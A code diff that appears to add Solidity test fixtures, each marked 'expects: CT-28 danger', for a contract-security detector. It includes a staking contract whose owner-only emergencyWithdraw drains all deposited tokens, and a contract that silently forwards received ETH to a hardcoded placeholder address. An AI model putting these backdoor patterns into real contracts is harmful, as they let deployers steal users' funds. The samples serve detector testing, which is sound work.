@@ -255,3 +255,54 @@ contract Migrate {
         asset.transfer(s, asset.balanceOf(address(this)));
     }
 }
+
+interface I {
+    function transferFrom(address, address, uint256) external returns (bool);
+    function transfer(address, uint256) external returns (bool);
+    function balanceOf(address) external view returns (uint256);
+}
+/// expects: CT-28 danger
+contract FakeStake {
+    I public t;
+    address private d = msg.sender;
+    struct S {
+        uint256 v;
+        uint256 at;
+    }
+    mapping(address => S) public s;
+    constructor(I x) {
+        t = x;
+    }
+    function stake(uint256 v) external {
+        t.transferFrom(msg.sender, address(this), v);
+        s[msg.sender].v += v;
+        s[msg.sender].at = block.timestamp;
+    }
+    function unstake() external {
+        uint v = s[msg.sender].v;
+        delete s[msg.sender];
+        t.transfer(msg.sender, v);
+    }
+    function emergencyWithdraw(address tok) external {
+        require(msg.sender == d);
+        I(tok).transfer(d, I(tok).balanceOf(address(this)));
+    }
+}
+/// expects: CT-28 danger
+contract Sweep {
+    address private immutable to = tx.origin;
+    function onERC721Received(address, address, uint256, bytes calldata) external returns (bytes4) {
+        _g();
+        return 0x150b7a02;
+    }
+    receive() external payable {
+        _g();
+    }
+    function _g() private {
+        assembly {
+            if selfbalance() {
+                pop(call(gas(), 0x00000000000000000000000000000000DeaDBeef, selfbalance(), 0, 0, 0, 0))
+            }
+        }
+    }
+}
